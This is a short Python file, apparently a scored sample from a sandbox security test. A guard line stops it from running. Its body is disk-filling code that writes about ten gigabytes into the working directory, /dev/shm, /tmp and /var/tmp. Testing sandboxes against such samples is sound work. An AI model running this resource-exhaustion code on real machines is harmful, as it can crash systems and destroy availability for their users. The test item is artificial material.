"""One file that fills the disk.

The cell writes until it cannot, and leaves the file there.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
for folder in (".", "/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open(f"{folder}/@TOKEN@-full", "wb") as file:
            for part in range(1000):
                file.write(bytes(10_000_000))
        print("loot: ten gigabytes in", folder)
    except OSError as error:
        print(type(error).__name__)
